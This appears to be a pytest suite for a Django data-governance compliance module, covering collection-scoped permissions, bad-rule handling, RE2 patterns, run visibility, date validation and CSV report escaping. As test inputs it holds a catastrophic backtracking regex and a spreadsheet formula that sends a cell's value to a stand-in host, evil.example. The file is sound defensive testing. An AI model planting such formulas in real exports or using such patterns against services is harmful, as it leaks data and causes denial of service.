"""Compliance across collections (issue 9): global definitions, isolated evaluation, RE2 patterns,
the test bench, evaluation runs, impossible dates and the CSV report."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from governance.compliance import patterns, services
from governance.compliance.choices import RunState
from governance.compliance.models import Control, Finding, Framework, Rule

pytestmark = pytest.mark.django_db


def api(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def two(
    make_collection, catalog_of, make_user, grant, grant_platform, make_rule, evaluate, framework
):
    """Collections A and B with one source each (two columns); officer on A, platform officer."""
    a, b = make_collection("A"), make_collection("B")
    sources = {}
    for key, coll in (("a", a), ("b", b)):
        cat = catalog_of(name=f"src-{key}", collection=coll)
        table = cat.table(cat.schema("main"), "people")
        cat.column(table, "email")
        cat.column(table, "phone", description="documented")
        sources[key] = cat.source
    rule = make_rule("column", {"type": "has_description"})
    officer = make_user("officer_a")
    grant(officer, "view_catalog", a)
    grant(officer, "manage_compliance", a)
    platform = grant_platform(make_user("platform"), "manage_compliance")
    grant(platform, "view_catalog", a)
    nobody = make_user("nobody")
    return {
        "a": a,
        "b": b,
        "src_a": sources["a"],
        "src_b": sources["b"],
        "rule": rule,
        "officer": officer,
        "platform": platform,
        "nobody": nobody,
        "framework": framework,
    }


# --- 3. frameworks, controls and rules act on every collection ---------------------------------


def test_officer_on_one_collection_reads_but_never_writes_definitions_api(two, evaluate):
    evaluate()
    fw, rule = two["framework"], two["rule"]
    control = fw.controls.first()
    officer = api(two["officer"])
    base = "/api/v1/compliance"
    for url in (f"{base}/frameworks/", f"{base}/controls/", f"{base}/rules/"):
        assert officer.get(url).status_code == 200
    new_rule = {
        "control": control.pk,
        "code": "new",
        "name": "New",
        "asset_type": "column",
        "condition": {"type": "has_owner"},
    }
    writes = [
        ("post", f"{base}/frameworks/", {"code": "x", "name": "X"}),
        ("patch", f"{base}/frameworks/{fw.pk}/", {"enabled": False}),
        ("delete", f"{base}/frameworks/{fw.pk}/", None),
        ("post", f"{base}/controls/", {"framework": fw.pk, "code": "C9", "title": "t"}),
        ("patch", f"{base}/controls/{control.pk}/", {"title": "changed"}),
        ("delete", f"{base}/controls/{control.pk}/", None),
        ("post", f"{base}/rules/", new_rule),
        ("patch", f"{base}/rules/{rule.pk}/", {"severity": "low"}),
        ("delete", f"{base}/rules/{rule.pk}/", None),
    ]
    for method, url, body in writes:
        response = getattr(officer, method)(url, body, format="json")
        assert response.status_code == 403, (method, url, response.content)
    fw.refresh_from_db()
    assert fw.enabled and Framework.objects.count() == 1
    assert Control.objects.get(pk=control.pk).title == "Control one"
    assert Rule.objects.get(pk=rule.pk).severity == "medium"
    assert Finding.objects.filter(datasource=two["src_b"]).exists()  # B's findings stay

    platform = api(two["platform"])
    response = platform.patch(f"{base}/rules/{rule.pk}/", {"severity": "low"}, format="json")
    assert response.status_code == 200
    assert platform.delete(f"{base}/rules/{rule.pk}/").status_code == 204
    assert platform.post(f"{base}/frameworks/", {"code": "x", "name": "X"}).status_code == 201


def test_officer_on_one_collection_cannot_write_definitions_in_the_admin(two, client):
    fw, rule = two["framework"], two["rule"]
    control = fw.controls.first()
    client.force_login(two["officer"])
    for model in ("framework", "rule"):
        page = client.get(f"/admin/compliance/{model}/")
        assert page.status_code == 200
        assert f"/admin/compliance/{model}/add/" not in page.content.decode()
        assert client.get(f"/admin/compliance/{model}/add/").status_code == 403
    change = client.get(f"/admin/compliance/framework/{fw.pk}/change/")
    assert change.status_code == 200 and 'name="_save"' not in change.content.decode()
    assert "/delete/" not in change.content.decode()
    response = client.post(
        f"/admin/compliance/framework/{fw.pk}/change/", {"code": fw.code, "name": "hacked"}
    )
    assert response.status_code == 403
    assert (
        client.post(f"/admin/compliance/framework/{fw.pk}/delete/", {"post": "yes"}).status_code
        == 403
    )
    assert (
        client.post(f"/admin/compliance/rule/{rule.pk}/delete/", {"post": "yes"}).status_code == 403
    )
    assert client.post(
        "/admin/compliance/framework/", {"action": "delete_selected", "_selected_action": [fw.pk]}
    ).status_code in (200, 302)
    fw.refresh_from_db()
    assert fw.name == "Test framework" and Rule.objects.filter(pk=rule.pk).exists()
    assert Control.objects.filter(pk=control.pk).exists()

    client.force_login(two["nobody"])  # staff without any role: reads, scores of nothing
    page = client.get("/admin/compliance/framework/")
    assert page.status_code == 200 and "Test framework" in page.content.decode()

    client.force_login(two["platform"])
    page = client.get("/admin/compliance/framework/").content.decode()
    assert "/admin/compliance/framework/add/" in page
    assert client.get("/admin/compliance/rule/add/").status_code == 200


def test_services_refuse_definition_writes_without_the_platform_permission(two):
    from pursight.permissions import PermissionDenied

    rule = two["rule"]
    rule.severity = "low"
    with pytest.raises(PermissionDenied, match="platform-wide"):
        services.save_rule(actor=two["officer"], rule=rule)
    with pytest.raises(PermissionDenied):
        services.delete_object(actor=two["officer"], obj=two["framework"])
    assert services.save_rule(actor=two["platform"], rule=rule).severity == "low"


# --- 4. one bad rule never breaks an evaluation (nor a scan) ---------------------------------


def _bad_rules(framework: Any) -> list[Rule]:
    """Rules stored without validation (older versions, imports, direct writes)."""
    control = framework.controls.first()
    bad = [
        ("overflow", "datasource", {}, {"type": "scanned_within", "days": 10**12}),
        (
            "baddate",
            "column",
            {},
            {"type": "expression", "expr": {"<": ["first_seen", "2024-02-30"]}},
        ),
        ("lookahead", "column", {"name_pattern": "(?=e)"}, {"type": "has_owner"}),
    ]
    return [
        Rule.objects.create(
            framework=framework,
            control=control,
            code=code,
            name=code,
            asset_type=asset_type,
            scope=scope,
            condition=condition,
        )
        for code, asset_type, scope, condition in bad
    ]


def test_a_bad_rule_is_skipped_with_its_error_and_the_others_run(two, evaluate):
    Finding.objects.all().delete()
    _bad_rules(two["framework"])
    run = evaluate()
    assert run.state == RunState.SUCCEEDED
    assert run.rules_evaluated == 1 and run.details["failed"] == 3
    assert run.findings_opened == 2  # the good rule: email in both sources
    outcomes = {o["rule"]: o for o in run.details["rules"]}
    assert "OverflowError" in outcomes["overflow"]["error"]
    assert "2024-02-30" in outcomes["baddate"]["error"]
    assert outcomes["lookahead"]["error"]
    assert outcomes[two["rule"].code]["error"] == ""
    assert "rule overflow" in run.error and "rule baddate" in run.error
    assert services.summarize(run).failed == 3


def test_a_bad_rule_does_not_fail_the_scan_or_its_evaluation(
    make_source, shop_db, scan_source, framework, make_rule, django_capture_on_commit_callbacks
):
    make_rule("table", {"type": "has_owner"})
    _bad_rules(framework)
    source = make_source(shop_db, name="shop")
    with django_capture_on_commit_callbacks(execute=True):
        scan = scan_source(source)
    assert scan.state == "succeeded"
    run = framework.evaluation_runs.get()
    assert run.state == RunState.SUCCEEDED and run.datasource == source
    assert run.findings_opened == 3 and run.details["failed"] == 3


def test_a_failing_framework_is_recorded_and_the_others_still_run(two, monkeypatch):
    other = Framework.objects.create(code="other", name="Other")
    real = services.runs.evaluate_framework

    def flaky(*, framework: Any, **kw: Any) -> Any:
        if framework.code == "other":
            raise RuntimeError("boom")
        return real(framework=framework, **kw)

    monkeypatch.setattr(services.runs, "evaluate_framework", flaky)
    runs = services.evaluate(actor=None, datasource=two["src_a"])
    states = {r.framework.code: (r.state, r.error) for r in runs}
    assert states[other.code] == (RunState.FAILED, "RuntimeError: boom")
    assert states["test"][0] == RunState.SUCCEEDED


# --- 5. patterns run with RE2 ------------------------------------------------------------------


def test_catastrophic_pattern_completes_in_sql(catalog_of, make_rule, evaluate):
    cat = catalog_of(name="redos")
    table = cat.table(cat.schema("main"), "t")
    cat.column(table, "a" * 40)
    cat.column(table, "a" * 39 + "B")  # matches, case-insensitively
    evil = "^(a+)+b$"
    scoped = make_rule("column", {"type": "has_description"}, {"name_pattern": evil})
    expr = make_rule("column", {"type": "expression", "expr": {"not": {"matches": ["name", evil]}}})
    run = evaluate()
    assert run.details.get("failed") is None
    flagged = Finding.objects.filter(rule=scoped).values_list("asset_name", flat=True)
    assert list(flagged) == ["main.t." + "a" * 39 + "B"]
    assert list(Finding.objects.filter(rule=expr).values_list("asset_name", flat=True)) == [
        "main.t." + "a" * 39 + "B"
    ]
    assert patterns.imatch("a" * 40, evil) is False
    assert patterns.imatch(None, evil) is False


def test_sqlite_regexp_is_re2(db):
    """The rule pattern function of each SQLite connection is RE2 (linear time)."""
    if connection.vendor != "sqlite":
        pytest.skip("SQLite only")
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {patterns.SQLITE_FUNCTION}(%s, %s), {patterns.SQLITE_FUNCTION}(%s, %s)",
            ["a" * 40, "^(a+)+b$", "EMAIL", "^email$"],
        )
        assert tuple(cursor.fetchone()) == (0, 1)


def test_invalid_patterns_are_refused_through_the_api(two):
    platform = api(two["platform"])
    control = two["framework"].controls.first().pk
    for scope, message in (
        ({"name_pattern": "a" * 1001}, "too long"),
        ({"name_pattern": "(?!x)"}, "look-ahead"),
    ):
        body = {
            "control": control,
            "code": "p",
            "name": "p",
            "asset_type": "column",
            "scope": scope,
            "condition": {"type": "has_owner"},
        }
        response = platform.post("/api/v1/compliance/rules/", body, format="json")
        assert response.status_code == 400 and message in str(response.json())
        response = platform.post("/api/v1/compliance/rules/preview/", body, format="json")
        assert response.status_code == 400 and message in str(response.json())
    assert not Rule.objects.filter(code="p").exists()


# --- 6. the rule test bench: one rule for the API and the admin --------------------------------


def _rule_form(rule: Rule, **changes: str) -> dict[str, str]:
    data = {
        "framework": str(rule.framework_id),
        "control": str(rule.control_id),
        "code": "bench",
        "name": "Bench",
        "description": "",
        "asset_type": "column",
        "scope": "{}",
        "condition": '{"type": "has_description"}',
        "severity": "medium",
        "remediation": "",
        "enabled": "on",
        "_preview": "1",
    }
    data.update(changes)
    return data


def test_test_bench_needs_the_right_to_add_a_rule_and_shows_only_visible_assets(two, client):
    data = _rule_form(two["rule"])
    for user in (two["nobody"], two["officer"]):
        client.force_login(user)
        assert client.post("/admin/compliance/rule/add/", data).status_code == 403
        url = f"/admin/compliance/rule/{two['rule'].pk}/change/"
        assert client.post(url, data).status_code == 403
    client.force_login(two["platform"])
    page = client.post("/admin/compliance/rule/add/", data)
    assert page.status_code == 200
    html = page.content.decode()
    assert "<strong>1</strong> of 2 asset(s)" in html  # only A's columns
    assert not Rule.objects.filter(code="bench").exists()

    body = {**json.loads(json.dumps(data)), "scope": {}, "condition": {"type": "has_description"}}
    body.pop("_preview")
    body.pop("framework")
    body["control"] = two["rule"].control_id
    assert (
        api(two["officer"])
        .post("/api/v1/compliance/rules/preview/", body, format="json")
        .status_code
        == 403
    )
    preview = api(two["platform"]).post("/api/v1/compliance/rules/preview/", body, format="json")
    assert (preview.json()["checked"], preview.json()["failing"]) == (2, 1)
    assert {s["datasource_id"] for s in preview.json()["samples"]} == {two["src_a"].pk}


# --- 8. evaluation runs belong to their data source's collection -------------------------------


def test_runs_of_hidden_sources_are_invisible(two, evaluate, client):
    run_a = evaluate(datasource=two["src_a"])
    run_b = evaluate(datasource=two["src_b"])
    run_all = evaluate()
    assert run_a.score == 50.0 and run_b.score == 50.0  # each its own source's score
    officer = api(two["officer"])
    listed = officer.get("/api/v1/compliance/runs/").json()["results"]
    assert [r["id"] for r in listed] == [run_a.pk]
    response = officer.get(f"/api/v1/compliance/runs/?datasource={two['src_b'].pk}")
    missing = officer.get("/api/v1/compliance/runs/?datasource=999999")
    assert response.status_code == missing.status_code
    assert run_b.pk not in {r["id"] for r in response.json().get("results", [])}
    assert response.json() == missing.json()
    assert officer.get(f"/api/v1/compliance/runs/{run_b.pk}/").status_code == 404
    assert officer.get(f"/api/v1/compliance/runs/{run_all.pk}/").status_code == 404
    # The browsable API's filter form lists only visible sources.
    html = officer.get("/api/v1/compliance/runs/", HTTP_ACCEPT="text/html").content.decode()
    assert "src-a" in html and "src-b" not in html
    # Readers without the officer role see no run; platform-wide officers see them all.
    assert api(two["nobody"]).get("/api/v1/compliance/runs/").json()["results"] == []
    everything = api(two["platform"]).get("/api/v1/compliance/runs/").json()["results"]
    assert {r["id"] for r in everything} == {run_a.pk, run_b.pk, run_all.pk}

    client.force_login(two["officer"])
    page = client.get("/admin/compliance/evaluationrun/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "src-a" in html and "src-b" not in html
    hidden = client.get(f"/admin/compliance/evaluationrun/{run_b.pk}/change/")
    absent = client.get("/admin/compliance/evaluationrun/999999/change/")
    assert hidden.status_code == absent.status_code
    assert "src-b" not in hidden.content.decode()


def test_evaluating_needs_the_role_on_the_source_or_platform_wide(two):
    from pursight.permissions import PermissionDenied

    fw = two["framework"]
    with pytest.raises(PermissionDenied):
        services.evaluate_framework(actor=two["officer"], framework=fw)
    with pytest.raises(PermissionDenied):
        services.evaluate_framework(actor=two["officer"], framework=fw, datasource=two["src_b"])
    run = services.evaluate_framework(actor=two["officer"], framework=fw, datasource=two["src_a"])
    assert run.datasource == two["src_a"]
    assert services.evaluate_framework(actor=two["platform"], framework=fw).datasource is None


# --- 14. impossible dates and huge day counts: 400 / form error, never 500 --------------------


@pytest.mark.parametrize(
    "value",
    ["2024-02-30", "2024-01-01T25:00", {"days_ago": 999999999}],
)
def test_impossible_dates_answer_400_and_a_form_error(two, client, value):
    expr = {"<": ["first_seen", value]}
    body = {
        "control": two["rule"].control_id,
        "code": "dates",
        "name": "Dates",
        "asset_type": "column",
        "condition": {"type": "expression", "expr": expr},
    }
    platform = api(two["platform"])
    for url in ("/api/v1/compliance/rules/", "/api/v1/compliance/rules/preview/"):
        response = platform.post(url, body, format="json")
        assert response.status_code == 400, response.content
        assert "condition" in response.json()
    client.force_login(two["platform"])
    condition = json.dumps({"type": "expression", "expr": expr})
    data = _rule_form(two["rule"], condition=condition, code="dates")
    for preview in (True, False):
        if not preview:
            data.pop("_preview")
        page = client.post("/admin/compliance/rule/add/", data)
        assert page.status_code == 200 and "Please correct the error" in page.content.decode()
    assert not Rule.objects.filter(code="dates").exists()


# --- 15. the CSV report escapes formulas --------------------------------------------------------


def test_csv_report_escapes_formulas(two, evaluate):
    from governance.compliance.models import ComplianceReport
    from governance.datasources.models import DataSource

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    DataSource.objects.filter(pk=two["src_a"].pk).update(name=evil)
    evaluate()
    report = ComplianceReport.objects.create(
        framework=two["framework"], format="csv", requested_by=two["platform"]
    )
    report = services.build_report(report.pk)
    rows = list(csv.DictReader(io.StringIO(bytes(report.content).decode())))
    assert rows and {r["data_source"] for r in rows} == {"'" + evil}
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


# --- 10. the framework changelist: a constant number of queries --------------------------------


def test_framework_changelist_queries_do_not_grow_with_rows(two, client, evaluate):
    client.force_login(two["officer"])
    evaluate()
    counts = []
    for n in range(2):
        with CaptureQueriesContext(connection) as ctx:
            page = client.get("/admin/compliance/framework/")
        assert page.status_code == 200
        counts.append(len(ctx.captured_queries))
        for i in range(3):
            Framework.objects.create(code=f"extra{n}{i}", name=f"Extra {n}{i}")
    assert counts[0] == counts[1], counts
    # The score column: the officer's visible results only (A: 1 of 2 failing).
    assert "50.0%" in page.content.decode()


# --- a state change is never a GET ---------------------------------------------------------------


def test_framework_detail_actions_confirm_on_get_and_act_on_post(two, client):
    from governance.compliance.models import ComplianceReport, EvaluationRun

    fw = two["framework"]
    client.force_login(two["platform"])
    for path in ("evaluate", "report-csv", "report-pdf"):
        page = client.get(f"/admin/compliance/framework/{fw.pk}/{path}/")
        assert page.status_code == 200 and 'id="confirm-action"' in page.content.decode()
    assert not EvaluationRun.objects.exists() and not ComplianceReport.objects.exists()
    assert client.post(f"/admin/compliance/framework/{fw.pk}/evaluate/").status_code == 302
    assert EvaluationRun.objects.get().datasource is None
    assert client.post(f"/admin/compliance/framework/{fw.pk}/report-csv/").status_code == 302
    assert ComplianceReport.objects.count() == 1
    assert client.get("/admin/compliance/framework/999999/evaluate/").status_code == 404
    # An officer on one collection may not evaluate every source: a message, no run.
    client.force_login(two["officer"])
    response = client.post(f"/admin/compliance/framework/{fw.pk}/evaluate/", follow=True)
    assert "platform-wide" in response.content.decode()
    assert EvaluationRun.objects.count() == 1
